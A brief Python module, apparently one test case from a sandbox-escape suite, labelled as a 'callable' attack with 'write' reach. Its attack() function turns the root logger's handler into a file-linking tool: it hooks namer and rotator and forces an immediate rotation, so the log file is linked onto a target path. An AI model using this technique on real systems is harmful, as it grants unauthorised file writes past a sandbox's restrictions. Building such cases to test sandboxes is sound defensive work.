"""A log's file is moved by a C function."""
CATEGORY = "callable"
REACH = "write"

import logging
import os

from . import payload


def attack():
    handler = logging.getLogger().handlers[0]
    handler.namer = lambda name: payload.TARGET
    handler.rotator = os.link
    handler.maxBytes = 1
